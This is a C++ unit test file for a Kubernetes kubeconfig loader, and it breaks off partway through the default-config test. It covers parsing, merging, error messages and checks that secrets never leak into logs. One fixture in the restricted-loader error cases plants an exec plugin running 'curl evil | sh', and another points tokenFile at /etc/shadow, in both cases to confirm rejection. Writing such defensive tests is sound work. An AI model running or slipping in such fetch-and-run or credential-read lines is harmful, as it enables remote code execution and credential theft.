#include "controller/kube/kubeconfig.h"

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <mutex>

#include <catch2/catch.hpp>

#include "controller/core/base64.h"
#include "controller/core/logging.h"
#include "test/support/temp_dir.h"

using namespace rio::kube;
using rio::ErrorKind;
using rio::Expected;
using rio::testing::TempDir;
namespace fs = std::filesystem;

namespace {

// Secret values used in the fixtures. The hygiene checks look for each of them (and their base64
// form) in every error message and log line.
const std::string kToken = "tok-SECRET-3f9a1c77e2";
const std::string kPassword = "pw-SECRET-hunter2";
const std::string kKeyBody = "S0VZLVNFQ1JFVC1ieXRlcy1kby1ub3QtbGVhaw==";
const std::string kCertBody = "Q0VSVC1TRUNSRVQtY2xpZW50LWNlcnQtYnl0ZXM=";
const std::string kCaPem =
    "-----BEGIN CERTIFICATE-----\nQ0EtY2VydGlmaWNhdGUtYnl0ZXM=\n-----END CERTIFICATE-----\n";
const std::string kCertPem =
    "-----BEGIN CERTIFICATE-----\n" + kCertBody + "\n-----END CERTIFICATE-----\n";
const std::string kKeyPem =
    "-----BEGIN EC PRIVATE KEY-----\n" + kKeyBody + "\n-----END EC PRIVATE KEY-----\n";
const std::string kGcpAccessToken = "ya29.SECRET-gcp-access-token";

std::string b64(const std::string& s) { return rio::base64::encode(s); }

std::vector<std::string> secrets() {
  return {kToken,      kPassword,      kKeyBody,     kCertBody,     kGcpAccessToken,
          b64(kToken), b64(kPassword), b64(kKeyPem), b64(kCertPem), "SECRET"};
}

/// Fails the test when any secret value of the fixtures appears in `text`.
void checkNoSecrets(const std::string& text) {
  for (const auto& s : secrets()) {
    INFO("text: " << text);
    CHECK(text.find(s) == std::string::npos);
  }
}

/// Users every fixture carries, so every error case has secrets next to it.
std::string usersBlock() {
  return "users:\n"
         "- name: tok-user\n"
         "  user:\n"
         "    token: " +
         kToken +
         "\n"
         "- name: basic-user\n"
         "  user:\n"
         "    username: admin\n"
         "    password: " +
         kPassword +
         "\n"
         "- name: cert-user\n"
         "  user:\n"
         "    client-certificate-data: " +
         b64(kCertPem) +
         "\n"
         "    client-key-data: " +
         b64(kKeyPem) + "\n";
}

/// One cluster "c1", one context "ctx" using `user`, current-context "ctx", the common users.
std::string simpleKubeconfig(const std::string& clusterBody, const std::string& user = "tok-user",
                             const std::string& extraUsers = "") {
  return "apiVersion: v1\n"
         "kind: Config\n"
         "clusters:\n"
         "- name: c1\n"
         "  cluster:\n" +
         clusterBody +
         "contexts:\n"
         "- name: ctx\n"
         "  context:\n"
         "    cluster: c1\n"
         "    user: " +
         user +
         "\n"
         "current-context: ctx\n" +
         usersBlock() + extraUsers;
}

const std::string kGoodCluster =
    "    server: https://10.0.0.1:6443\n"
    "    certificate-authority-data: " +
    b64(kCaPem) + "\n";

Expected<RestConfig> loadText(const std::string& yaml,
                              KubeconfigTrust trust = KubeconfigTrust::kLocal,
                              const std::string& context = {}) {
  auto config = parseKubeconfig(yaml, "/nonexistent-base", trust, "kubeconfig test.yaml");
  if (!config) return rio::fail(config.error());
  return restConfigFromKubeconfig(*config, context);
}

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

/// Captures log lines for the lifetime of the object.
class LogCapture {
 public:
  LogCapture() {
    rio::log::setStderrEnabled(false);
    id_ = rio::log::addSink([this](std::string_view line) {
      std::lock_guard lock(mu_);
      lines_.emplace_back(line);
    });
  }
  ~LogCapture() {
    rio::log::removeSink(id_);
    rio::log::setStderrEnabled(true);
  }
  std::vector<std::string> lines() const {
    std::lock_guard lock(mu_);
    return lines_;
  }

 private:
  mutable std::mutex mu_;
  std::vector<std::string> lines_;
  int id_ = 0;
};

}  // namespace

// ------------------------------------------------------------------------------------------------
// Real-world shapes

TEST_CASE("Kubeconfig: a kind-style kubeconfig with inline client certificate data loads",
          "[kubeconfig]") {
  // The shape `kind get kubeconfig` prints (keys sorted as kubectl writes them).
  const std::string yaml =
      "apiVersion: v1\n"
      "clusters:\n"
      "- cluster:\n"
      "    certificate-authority-data: " +
      b64(kCaPem) +
      "\n"
      "    server: https://127.0.0.1:39793\n"
      "  name: kind-hub\n"
      "contexts:\n"
      "- context:\n"
      "    cluster: kind-hub\n"
      "    user: kind-hub\n"
      "  name: kind-hub\n"
      "current-context: kind-hub\n"
      "kind: Config\n"
      "preferences: {}\n"
      "users:\n"
      "- name: kind-hub\n"
      "  user:\n"
      "    client-certificate-data: " +
      b64(kCertPem) +
      "\n"
      "    client-key-data: " +
      b64(kKeyPem) + "\n";
  auto config = loadText(yaml);
  REQUIRE(config);
  CHECK(config->server == "https://127.0.0.1:39793");
  CHECK(config->tls.caPem == kCaPem);
  CHECK(config->tls.clientCertPem == kCertPem);
  CHECK(config->tls.clientKeyPem == kKeyPem);
  CHECK_FALSE(config->tls.insecureSkipVerify);
  CHECK(config->token == nullptr);
  CHECK(contains(config->origin, "kind-hub"));
  CHECK(contains(config->describe(), "client-certificate"));
  checkNoSecrets(config->describe());
}

TEST_CASE("Kubeconfig: a minikube-style kubeconfig reads absolute and relative file paths",
          "[kubeconfig]") {
  TempDir dir;
  const auto ca = dir.write("minikube/ca.crt", kCaPem);
  dir.write("kube/profiles/minikube/client.crt", kCertPem);
  dir.write("kube/profiles/minikube/client.key", kKeyPem);
  const auto path = dir.write("kube/config",
                              "apiVersion: v1\n"
                              "kind: Config\n"
                              "clusters:\n"
                              "- cluster:\n"
                              "    certificate-authority: " +
                                  ca +
                                  "\n"
                                  "    server: https://192.168.49.2:8443\n"
                                  "  name: minikube\n"
                                  "contexts:\n"
                                  "- context:\n"
                                  "    cluster: minikube\n"
                                  "    namespace: default\n"
                                  "    user: minikube\n"
                                  "  name: minikube\n"
                                  "current-context: minikube\n"
                                  "users:\n"
                                  "- name: minikube\n"
                                  "  user:\n"
                                  "    client-certificate: profiles/minikube/client.crt\n"
                                  "    client-key: ./profiles/minikube/client.key\n");
  auto parsed = loadKubeconfigFiles({path});
  REQUIRE(parsed);
  const auto& user = parsed->users.at("minikube");
  CHECK(user.clientCertificate ==
        (fs::path(dir.path()) / "kube/profiles/minikube/client.crt").string());
  CHECK(user.clientKey == (fs::path(dir.path()) / "kube/profiles/minikube/client.key").string());
  CHECK(parsed->clusters.at("minikube").certificateAuthority == ca);
  CHECK(parsed->contexts.at("minikube").ns == "default");

  auto config = restConfigFromKubeconfig(*parsed, "");
  REQUIRE(config);
  CHECK(config->server == "https://192.168.49.2:8443");
  CHECK(config->tls.caPem == kCaPem);
  CHECK(config->tls.clientCertPem == kCertPem);
  CHECK(config->tls.clientKeyPem == kKeyPem);
  CHECK(contains(config->origin, path));
}

TEST_CASE("Kubeconfig: a minikube-style file path that does not exist names the field and path",
          "[kubeconfig]") {
  TempDir dir;
  const auto path =
      dir.write("config", simpleKubeconfig("    server: https://192.168.49.2:8443\n"
                                           "    certificate-authority: missing/ca.crt\n"));
  auto parsed = loadKubeconfigFiles({path});
  REQUIRE(parsed);
  auto config = restConfigFromKubeconfig(*parsed, "");
  REQUIRE_FALSE(config);
  CHECK(config.error().kind() == ErrorKind::kConfig);
  CHECK(contains(config.error().message(), "certificate-authority"));
  CHECK(contains(config.error().message(), (fs::path(dir.path()) / "missing/ca.crt").string()));
  CHECK(contains(config.error().message(), "cluster \"c1\""));
}

TEST_CASE("Kubeconfig: an EKS-style exec user is refused with a message naming the user and field",
          "[kubeconfig]") {
  const std::string exec =
      "- name: eks-admin\n"
      "  user:\n"
      "    exec:\n"
      "      apiVersion: client.authentication.k8s.io/v1beta1\n"
      "      command: aws\n"
      "      args: [eks, get-token, --cluster-name, prod]\n"
      "      env:\n"
      "      - name: AWS_SECRET_ACCESS_KEY\n"
      "        value: " +
      kPassword + "\n";
  auto config = loadText(simpleKubeconfig(kGoodCluster, "eks-admin", exec));
  REQUIRE_FALSE(config);
  CHECK(config.error().kind() == ErrorKind::kConfig);
  CHECK(contains(config.error().message(),
                 "user \"eks-admin\" uses exec credential plugins (users[].user.exec), which this "
                 "client does not run"));
  CHECK(contains(config.error().message(), "kubeconfig test.yaml"));
  checkNoSecrets(config.error().message());

  // The same file still works for a context whose user needs no plugin (kubectl's behaviour).
  auto parsed = parseKubeconfig(simpleKubeconfig(kGoodCluster, "eks-admin", exec), "",
                                KubeconfigTrust::kLocal, "kubeconfig test.yaml");
  REQUIRE(parsed);
  CHECK(parsed->users.at("eks-admin").hasExec);
  parsed->contexts.at("ctx").user = "tok-user";
  auto ok = restConfigFromKubeconfig(*parsed, "ctx");
  REQUIRE(ok);
  REQUIRE(ok->token);
  CHECK(ok->token->token().value() == kToken);
}

TEST_CASE("Kubeconfig: a GKE-style auth-provider user is refused naming the provider",
          "[kubeconfig]") {
  const std::string gke =
      "- name: gke_proj_europe-west1_prod\n"
      "  user:\n"
      "    auth-provider:\n"
      "      name: gcp\n"
      "      config:\n"
      "        access-token: " +
      kGcpAccessToken +
      "\n"
      "        cmd-path: /usr/lib/google-cloud-sdk/bin/gcloud\n"
      "        expiry-key: '{.credential.token_expiry}'\n";
  auto config = loadText(simpleKubeconfig(kGoodCluster, "gke_proj_europe-west1_prod", gke));
  REQUIRE_FALSE(config);
  const auto& message = config.error().message();
  CHECK(contains(message, "user \"gke_proj_europe-west1_prod\""));
  CHECK(contains(message, "\"gcp\" auth-provider"));
  CHECK(contains(message, "users[].user.auth-provider"));
  checkNoSecrets(message);
}

TEST_CASE(
    "Kubeconfig: a merged KUBECONFIG takes each entry and current-context from the first file",
    "[kubeconfig]") {
  TempDir dir;
  const auto first = dir.write("a/config",
                               "clusters:\n"
                               "- name: shared\n"
                               "  cluster: {server: 'https://first.example:6443'}\n"
                               "- name: only-a\n"
                               "  cluster: {server: 'https://a.example:6443'}\n"
                               "contexts:\n"
                               "- name: ctx-a\n"
                               "  context: {cluster: shared, user: alice}\n"
                               "current-context: ctx-a\n"
                               "users:\n"
                               "- name: alice\n"
                               "  user: {token: " +
                                   kToken + "}\n");
  dir.write("b/token", "tok-from-b\n");
  const auto second = dir.write("b/config",
                                "clusters:\n"
                                "- name: shared\n"
                                "  cluster: {server: 'https://second.example:6443'}\n"
                                "- name: only-b\n"
                                "  cluster: {server: 'https://b.example:6443'}\n"
                                "contexts:\n"
                                "- name: ctx-a\n"
                                "  context: {cluster: only-b, user: bob}\n"
                                "- name: ctx-b\n"
                                "  context: {cluster: only-b, user: bob}\n"
                                "current-context: ctx-b\n"
                                "users:\n"
                                "- name: alice\n"
                                "  user: {token: other}\n"
                                "- name: bob\n"
                                "  user: {tokenFile: token}\n");
  auto merged = loadKubeconfigFiles({first, dir.path() + "/missing/config", second});
  REQUIRE(merged);
  CHECK(merged->currentContext == "ctx-a");
  CHECK(merged->clusters.at("shared").server == "https://first.example:6443");
  CHECK(merged->clusters.count("only-a") == 1);
  CHECK(merged->clusters.count("only-b") == 1);
  CHECK(merged->contexts.at("ctx-a").cluster == "shared");
  CHECK(merged->users.at("alice").token == kToken);
  // Paths resolve against the directory of the file that defined them.
  CHECK(merged->users.at("bob").tokenFile == (fs::path(dir.path()) / "b/token").string());

  auto current = restConfigFromKubeconfig(*merged, "");
  REQUIRE(current);
  CHECK(current->server == "https://first.example:6443");
  CHECK(contains(current->origin, first));

  SECTION("a context override picks the other file's context") {
    auto other = restConfigFromKubeconfig(*merged, "ctx-b");
    REQUIRE(other);
    CHECK(other->server == "https://b.example:6443");
    REQUIRE(other->token);
    CHECK(other->token->token().value() == "tok-from-b");
    CHECK(contains(other->describe(), "token-file:"));
    CHECK(contains(other->origin, second));
  }
  SECTION("the same merge is what loadDefaultConfig does with $KUBECONFIG") {
    DefaultConfigSources sources;
    sources.inCluster.tokenFile = dir.path() + "/no-token";
    const std::string list = first + ":" + dir.path() + "/missing/config::" + second;
    sources.env = [&](const std::string& name) -> std::optional<std::string> {
      if (name == "KUBECONFIG") return list;
      return std::nullopt;
    };
    sources.context = "ctx-b";
    auto config = loadDefaultConfig(sources);
    REQUIRE(config);
    CHECK(config->server == "https://b.example:6443");
  }
}

TEST_CASE("Kubeconfig: a KUBECONFIG list where no file exists is an error naming them",
          "[kubeconfig]") {
  TempDir dir;
  auto merged = loadKubeconfigFiles({dir.path() + "/one", dir.path() + "/two"});
  REQUIRE_FALSE(merged);
  CHECK(merged.error().kind() == ErrorKind::kConfig);
  CHECK(contains(merged.error().message(), dir.path() + "/one"));
  CHECK(contains(merged.error().message(), dir.path() + "/two"));
}

TEST_CASE("Kubeconfig: a context given explicitly overrides current-context", "[kubeconfig]") {
  const std::string yaml =
      "clusters:\n"
      "- {name: dev, cluster: {server: 'https://dev.example'}}\n"
      "- {name: prod, cluster: {server: 'https://prod.example:443/k8s/clusters/c-1/'}}\n"
      "contexts:\n"
      "- {name: dev, context: {cluster: dev, user: tok-user}}\n"
      "- {name: prod, context: {cluster: prod, user: basic-user, namespace: payments}}\n"
      "current-context: dev\n" +
      usersBlock();
  auto dev = loadText(yaml);
  REQUIRE(dev);
  CHECK(dev->server == "https://dev.example");
  auto prod = loadText(yaml, KubeconfigTrust::kLocal, "prod");
  REQUIRE(prod);
  CHECK(prod->server == "https://prod.example:443/k8s/clusters/c-1");
  CHECK(prod->username == "admin");
  CHECK(prod->password == kPassword);
  CHECK(prod->token == nullptr);
  CHECK(contains(prod->describe(), "basic-auth"));
  checkNoSecrets(prod->describe());
}

TEST_CASE("Kubeconfig: a missing current-context is reported with the contexts that exist",
          "[kubeconfig]") {
  SECTION("current-context names a context that is not defined") {
    auto yaml = simpleKubeconfig(kGoodCluster);
    yaml.replace(yaml.find("current-context: ctx"), 20, "current-context: gone");
    auto config = loadText(yaml);
    REQUIRE_FALSE(config);
    CHECK(contains(config.error().message(), "current-context \"gone\" is not defined"));
    CHECK(contains(config.error().message(), "\"ctx\""));
  }
  SECTION("current-context is not set and no context is given") {
    auto yaml = simpleKubeconfig(kGoodCluster);
    yaml.replace(yaml.find("current-context: ctx"), 20, "");
    auto config = loadText(yaml);
    REQUIRE_FALSE(config);
    CHECK(contains(config.error().message(), "current-context is not set"));
  }
  SECTION("an explicit context that does not exist") {
    auto config = loadText(simpleKubeconfig(kGoodCluster), KubeconfigTrust::kLocal, "nope");
    REQUIRE_FALSE(config);
    CHECK(contains(config.error().message(), "context \"nope\" is not defined"));
  }
}

TEST_CASE("Kubeconfig: an empty file is an empty config, as kubectl reads it", "[kubeconfig]") {
  auto parsed = parseKubeconfig("", "", KubeconfigTrust::kLocal, "kubeconfig empty");
  REQUIRE(parsed);
  CHECK(parsed->clusters.empty());
  auto config = restConfigFromKubeconfig(*parsed, "");
  REQUIRE_FALSE(config);
  CHECK(contains(config.error().message(), "kubeconfig empty"));
}

TEST_CASE("Kubeconfig: insecure-skip-tls-verify is allowed and logged as a warning",
          "[kubeconfig]") {
  LogCapture capture;
  auto config =
      loadText(simpleKubeconfig("    server: https://10.0.0.1:6443\n"
                                "    insecure-skip-tls-verify: true\n"));
  REQUIRE(config);
  CHECK(config->tls.insecureSkipVerify);
  CHECK(contains(config->describe(), "insecure"));
  const auto lines = capture.lines();
  REQUIRE(lines.size() == 1);
  CHECK(contains(lines[0], "warn"));
  CHECK(contains(lines[0], "insecure-skip-tls-verify"));
  CHECK(contains(lines[0], "\"c1\""));
  checkNoSecrets(lines[0]);
}

TEST_CASE("Kubeconfig: tls-server-name is carried to the TLS settings", "[kubeconfig]") {
  auto config =
      loadText(simpleKubeconfig(kGoodCluster + "    tls-server-name: kubernetes.default.svc\n"));
  REQUIRE(config);
  CHECK(config->tls.serverName == "kubernetes.default.svc");
}

// ------------------------------------------------------------------------------------------------
// Errors: every one is kConfig, says where, and leaks nothing.

namespace {

struct ErrorCase {
  std::string what;
  std::string yaml;
  KubeconfigTrust trust;
  std::string expected;  // a part of the message
};

std::vector<ErrorCase> errorCases() {
  const auto L = KubeconfigTrust::kLocal;
  const auto R = KubeconfigTrust::kRestricted;
  std::vector<ErrorCase> cases = {
      {"broken YAML (unterminated flow)", "clusters: [\n- name: c1\n" + usersBlock(), L,
       "invalid YAML at line"},
      {"broken YAML next to a token (bad escape)",
       "users:\n- name: u\n  user:\n    token: \"" + kToken + "\\q\"\n", L,
       "invalid YAML at line 4"},
      {"YAML nested too deeply (a stack-overflow attempt)", "clusters: " + std::string(100000, '['),
       L, "nested too deeply"},
      {"top level is a list", "- " + kToken + "\n", L, "the document must be a map"},
      {"clusters is a map", "clusters:\n  c1:\n    server: https://x\n" + usersBlock(), L,
       "clusters must be a list"},
      {"a cluster entry is a list",
       "clusters:\n- name: c1\n  cluster: [https://x]\n" + usersBlock(), L,
       "clusters[].cluster must be a map"},
      {"server is a map", simpleKubeconfig("    server: {url: https://x}\n"), L,
       "clusters[].cluster.server must be a string"},
      {"token is a list", "users:\n- name: u\n  user:\n    token: [" + kToken + "]\n", L,
       "users[].user.token must be a string"},
      {"insecure flag is not a boolean",
       simpleKubeconfig("    server: https://x\n    insecure-skip-tls-verify: maybe\n"), L,
       "insecure-skip-tls-verify must be true or false"},
      {"an entry without a name", "users:\n- user:\n    token: " + kToken + "\n", L,
       "users[0] has no name"},
      {"a name defined twice", usersBlock() + "- name: tok-user\n  user:\n    token: x\n", L,
       "user \"tok-user\" is defined twice"},
      {"kind is a Secret", "apiVersion: v1\nkind: Secret\ndata:\n  token: " + b64(kToken) + "\n", L,
       "kind is \"Secret\""},
      {"missing server", simpleKubeconfig("    certificate-authority-data: " + b64(kCaPem) + "\n"),
       L, "cluster \"c1\" has no server"},
      {"server without scheme", simpleKubeconfig("    server: 10.0.0.1:6443\n"), L,
       "has no scheme"},
      {"server with another scheme", simpleKubeconfig("    server: ftp://10.0.0.1\n"), L,
       "scheme \"ftp\""},
      {"server with credentials",
       simpleKubeconfig("    server: https://admin:" + kPassword + "@10.0.0.1\n"), L,
       "must not contain user credentials"},
      {"server with a bad port", simpleKubeconfig("    server: https://10.0.0.1:70000\n"), L,
       "invalid port"},
      {"server with a bare IPv6 address", simpleKubeconfig("    server: https://fd00::1:6443\n"), L,
       "without [brackets]"},
      {"invalid base64 in certificate-authority-data",
       simpleKubeconfig("    server: https://x\n    certificate-authority-data: not*base64\n"), L,
       "clusters[].cluster.certificate-authority-data is not valid base64"},
      {"invalid base64 in client-key-data",
       "users:\n- name: u\n  user:\n    client-key-data: " + kKeyBody.substr(0, 21) + "\n", L,
       "users[].user.client-key-data is not valid base64"},
      {"CA data that is not PEM",
       simpleKubeconfig("    server: https://x\n    certificate-authority-data: " + b64("garbage") +
                        "\n"),
       L, "certificate-authority-data holds no PEM certificate"},
      {"context naming a missing cluster",
       "contexts:\n- {name: ctx, context: {cluster: nowhere, user: tok-user}}\ncurrent-context: "
       "ctx\n" +
           usersBlock(),
       L, "context \"ctx\" refers to cluster \"nowhere\", which is not defined"},
      {"context naming a missing user", simpleKubeconfig(kGoodCluster, "nobody"), L,
       "context \"ctx\" refers to user \"nobody\", which is not defined"},
      {"context naming no cluster",
       "contexts:\n- {name: ctx, context: {user: tok-user}}\ncurrent-context: ctx\n" + usersBlock(),
       L, "context \"ctx\" names no cluster"},
      {"proxy-url", simpleKubeconfig(kGoodCluster + "    proxy-url: http://proxy:3128\n"), L,
       "proxy-url (clusters[].cluster.proxy-url), which this client does not support"},
      {"CA file and data both set",
       simpleKubeconfig(kGoodCluster + "    certificate-authority: /etc/ca.crt\n"), L,
       "both certificate-authority and certificate-authority-data"},
      {"CA and insecure both set",
       simpleKubeconfig(kGoodCluster + "    insecure-skip-tls-verify: true\n"), L,
       "both insecure-skip-tls-verify and a certificate authority"},
      {"token and basic auth together",
       simpleKubeconfig(kGoodCluster, "mixed",
                        "- name: mixed\n  user:\n    token: " + kToken +
                            "\n    username: a\n    password: " + kPassword + "\n"),
       L, "only one authentication method"},
      {"client certificate without key",
       simpleKubeconfig(
           kGoodCluster, "half",
           "- name: half\n  user:\n    client-certificate-data: " + b64(kCertPem) + "\n"),
       L, "has a client certificate but no client-key"},
      {"client key that is not a key",
       simpleKubeconfig(kGoodCluster, "odd",
                        "- name: odd\n  user:\n    client-certificate-data: " + b64(kCertPem) +
                            "\n    client-key-data: " + b64(kCertPem) + "\n"),
       L, "client-key-data holds no PEM private key"},
      {"impersonation",
       simpleKubeconfig(kGoodCluster, "imp",
                        "- name: imp\n  user:\n    token: " + kToken + "\n    as: system:admin\n"),
       L, "uses impersonation"},
      {"a missing tokenFile",
       simpleKubeconfig(kGoodCluster, "tf",
                        "- name: tf\n  user:\n    tokenFile: /nonexistent/token\n"),
       L, "users[].user.tokenFile: cannot read token file /nonexistent/token"},
      {"a missing client-key file",
       simpleKubeconfig(kGoodCluster, "files",
                        "- name: files\n  user:\n    client-certificate-data: " + b64(kCertPem) +
                            "\n    client-key: keys/client.key\n"),
       L, "users[].user.client-key: cannot read client-key file /nonexistent-base/keys/client.key"},
      // The restricted loader (kubeconfigs from Secrets).
      {"restricted: certificate-authority path",
       simpleKubeconfig(
           "    server: https://x\n    certificate-authority: /etc/kubernetes/pki/ca.crt\n"),
       R, "clusters[].cluster.certificate-authority refers to a file"},
      {"restricted: client-certificate path",
       simpleKubeconfig(kGoodCluster, "files",
                        "- name: files\n  user:\n    client-certificate: /root/.kube/c.crt\n    "
                        "client-key-data: " +
                            b64(kKeyPem) + "\n"),
       R, "users[].user.client-certificate refers to a file"},
      {"restricted: client-key path",
       simpleKubeconfig(kGoodCluster, "files",
                        "- name: files\n  user:\n    client-key: /root/.kube/c.key\n"),
       R, "users[].user.client-key refers to a file"},
      {"restricted: tokenFile",
       simpleKubeconfig(kGoodCluster, "tf",
                        "- name: tf\n  user:\n    tokenFile: "
                        "/var/run/secrets/kubernetes.io/serviceaccount/token\n"),
       R,
       "users[].user.tokenFile refers to a file, which is not allowed in a kubeconfig from an "
       "untrusted source"},
      {"restricted: exec, even for a user no context uses",
       simpleKubeconfig(kGoodCluster, "tok-user",
                        "- name: sneaky\n  user:\n    exec:\n      command: /bin/sh\n      args: "
                        "[-c, 'curl evil | sh']\n"),
       R, "user \"sneaky\" uses exec credential plugins (users[].user.exec)"},
      {"restricted: auth-provider",
       simpleKubeconfig(
           kGoodCluster, "gke",
           "- name: gke\n  user:\n    auth-provider:\n      name: oidc\n      config: {id-token: " +
               kGcpAccessToken + "}\n"),
       R, "\"oidc\" auth-provider plugin"},
  };
  return cases;
}

}  // namespace

TEST_CASE("Kubeconfig: every malformed or refused kubeconfig gives a kConfig error saying where",
          "[kubeconfig]") {
  for (const auto& c : errorCases()) {
    INFO(c.what);
    auto config = loadText(c.yaml, c.trust);
    REQUIRE_FALSE(config);
    CHECK(config.error().kind() == ErrorKind::kConfig);
    INFO("message: " << config.error().message());
    CHECK(contains(config.error().message(), c.expected));
    CHECK(contains(config.error().message(), "kubeconfig test.yaml"));
  }
}

TEST_CASE("Kubeconfig: no error message ever contains a token, password, key or certificate bytes",
          "[kubeconfig][hygiene]") {
  LogCapture capture;
  for (const auto& c : errorCases()) {
    INFO(c.what);
    auto config = loadText(c.yaml, c.trust);
    REQUIRE_FALSE(config);
    checkNoSecrets(config.error().message());
    // Whatever else the file holds, the untrusted path never echoes it either.
    auto untrusted = restConfigFromUntrustedKubeconfig(c.yaml, "Secret istio-system/x");
    if (!untrusted) checkNoSecrets(untrusted.error().message());
  }
  for (const auto& line : capture.lines()) checkNoSecrets(line);
}

// ------------------------------------------------------------------------------------------------
// The restricted loader

TEST_CASE(
    "Kubeconfig: the restricted loader accepts an Istio remote secret with inline token and CA",
    "[kubeconfig]") {
  const std::string yaml =
      "apiVersion: v1\n"
      "kind: Config\n"
      "clusters:\n"
      "- cluster:\n"
      "    certificate-authority-data: " +
      b64(kCaPem) +
      "\n"
      "    server: https://remote-1.example:6443\n"
      "  name: remote-1\n"
      "contexts:\n"
      "- context: {cluster: remote-1, user: remote-1}\n"
      "  name: remote-1\n"
      "current-context: remote-1\n"
      "preferences: {}\n"
      "users:\n"
      "- name: remote-1\n"
      "  user:\n"
      "    token: " +
      kToken + "\n";
  auto config =
      restConfigFromUntrustedKubeconfig(yaml, "Secret istio-system/istio-remote-secret-remote-1");
  REQUIRE(config);
  CHECK(config->server == "https://remote-1.example:6443");
  CHECK(config->tls.caPem == kCaPem);
  REQUIRE(config->token);
  CHECK(config->token->token().value() == kToken);
  CHECK(contains(config->origin, "Secret istio-system/istio-remote-secret-remote-1"));
  checkNoSecrets(config->describe());
}

TEST_CASE("Kubeconfig: the restricted loader names the Secret in its errors", "[kubeconfig]") {
  auto config = restConfigFromUntrustedKubeconfig(
      simpleKubeconfig(kGoodCluster, "tf", "- name: tf\n  user:\n    tokenFile: /etc/shadow\n"),
      "Secret istio-system/istio-remote-secret-c1");
  REQUIRE_FALSE(config);
  CHECK(contains(config.error().message(), "Secret istio-system/istio-remote-secret-c1"));
  CHECK(contains(config.error().message(), "tokenFile"));
}

TEST_CASE(
    "Kubeconfig: the restricted loader gives a Secret's new kubeconfig as soon as its bytes "
    "change, and its errors again",
    "[kubeconfig]") {
  const std::string source = "Secret istio-system/istio-remote-secret-rotating";
  auto withToken = [](const std::string& token) {
    return simpleKubeconfig(kGoodCluster, "u", "- name: u\n  user:\n    token: " + token + "\n");
  };
  auto first = restConfigFromUntrustedKubeconfig(withToken("tok-one"), source);
  REQUIRE(first);
  CHECK(first->token->token().value() == "tok-one");
  auto again = restConfigFromUntrustedKubeconfig(withToken("tok-one"), source);
  REQUIRE(again);
  CHECK(again->token->token().value() == "tok-one");
  CHECK(again->server == first->server);

  auto rotated = restConfigFromUntrustedKubeconfig(withToken("tok-two"), source);
  REQUIRE(rotated);
  CHECK(rotated->token->token().value() == "tok-two");
  // The same bytes under another Secret's name carry that name.
  auto other = restConfigFromUntrustedKubeconfig(withToken("tok-two"), "Secret istio-system/other");
  REQUIRE(other);
  CHECK(contains(other->origin, "Secret istio-system/other"));
  CHECK_FALSE(contains(other->origin, source));

  for (int i = 0; i < 2; ++i) {
    auto broken = restConfigFromUntrustedKubeconfig("clusters: [", source);
    REQUIRE_FALSE(broken);
    CHECK(contains(broken.error().message(), source));
  }
  auto back = restConfigFromUntrustedKubeconfig(withToken("tok-one"), source);
  REQUIRE(back);
  CHECK(back->token->token().value() == "tok-one");
  // Another context of the same bytes is resolved on its own.
  auto missing = restConfigFromUntrustedKubeconfig(withToken("tok-one"), source, "nope");
  REQUIRE_FALSE(missing);
  CHECK(contains(missing.error().message(), "nope"));
}

// ------------------------------------------------------------------------------------------------
// In-cluster and the default chain

namespace {

InClusterPaths inClusterFiles(const TempDir& dir, const std::string& token = "tok-pod-sa\n") {
  InClusterPaths paths;
  paths.tokenFile = dir.write("sa/token", token);
  paths.caFile = dir.write("sa/ca.crt", kCaPem);
  paths.namespaceFile = dir.write("sa/namespace", "istio-system");
  paths.host = "10.96.0.1";
  paths.port = "443";
  return paths;
}

}  // namespace

TEST_CASE("In-cluster config: server, CA, token and namespace come from the mount",
          "[kubeconfig][incluster]") {
  TempDir dir;
  const auto paths = inClusterFiles(dir);
  auto config = inClusterConfig(paths);
  REQUIRE(config);
  CHECK(config->server == "https://10.96.0.1:443");
  CHECK(config->tls.caPem == kCaPem);
  REQUIRE(config->token);
  CHECK(config->token->token().value() == "tok-pod-sa");
  CHECK(config->origin == "in-cluster");
  CHECK(inClusterNamespace(paths) == std::optional<std::string>("istio-system"));

  SECTION("the token is re-read when kubelet rotates it") {
    dir.write("sa/token", "tok-pod-sa-rotated-later\n");
    CHECK(config->token->token().value() == "tok-pod-sa-rotated-later");
  }
}

TEST_CASE("In-cluster config: an IPv6 service host is bracketed", "[kubeconfig][incluster]") {
  TempDir dir;
  auto paths = inClusterFiles(dir);
  paths.host = "fd00:10:96::1";
  auto config = inClusterConfig(paths);
  REQUIRE(config);
  CHECK(config->server == "https://[fd00:10:96::1]:443");
}

TEST_CASE("In-cluster config: host and port come from the environment", "[kubeconfig][incluster]") {
  TempDir dir;
  auto paths = inClusterFiles(dir);
  paths.host.clear();
  paths.port.clear();
  ::setenv("KUBERNETES_SERVICE_HOST", "10.43.0.1", 1);
  ::setenv("KUBERNETES_SERVICE_PORT", "6443", 1);
  auto config = inClusterConfig(paths);
  ::unsetenv("KUBERNETES_SERVICE_HOST");
  ::unsetenv("KUBERNETES_SERVICE_PORT");
  REQUIRE(config);
  CHECK(config->server == "https://10.43.0.1:6443");

  auto outside = inClusterConfig(paths);
  REQUIRE_FALSE(outside);
  CHECK(contains(outside.error().message(), "KUBERNETES_SERVICE_HOST"));
}

TEST_CASE("In-cluster config: a missing token or CA file is an error naming the path",
          "[kubeconfig][incluster]") {
  TempDir dir;
  auto paths = inClusterFiles(dir);
  SECTION("token") {
    fs::remove(paths.tokenFile);
    auto config = inClusterConfig(paths);
    REQUIRE_FALSE(config);
    CHECK(config.error().kind() == ErrorKind::kConfig);
    CHECK(contains(config.error().message(), paths.tokenFile));
  }
  SECTION("CA") {
    fs::remove(paths.caFile);
    auto config = inClusterConfig(paths);
    REQUIRE_FALSE(config);
    CHECK(contains(config.error().message(), paths.caFile));
  }
  SECTION("namespace") {
    fs::remove(paths.namespaceFile);
    CHECK(inClusterNamespace(paths) == std::nullopt);
  }
}

TEST_CASE("loadDefaultConfig: flag, then in-cluster, then KUBECONFIG, then ~/.kube/config",
          "[kubeconfig][default]") {
  TempDir dir;
  const auto flagFile =
      dir.write("flag/config", simpleKubeconfig("    server: https://flag.example\n"));
  const auto envFile =
      dir.write("env/config", simpleKubeconfig("    server: https://env.example\n"));
  dir.write("home/.kube/config", simpleKubeconfig("    server: https://home.example\n"));
  std::map<std::string, std::string> env = {{"KUBERNETES_SERVICE_HOST", "10.96.0.1"},
                                            {"KUBERNETES_SERVICE_PORT", "443"},
                                            {"KUBECONFIG", envFile},
                                            {"HOME", dir.path() + "/home"}};
  DefaultConfigSources sources;
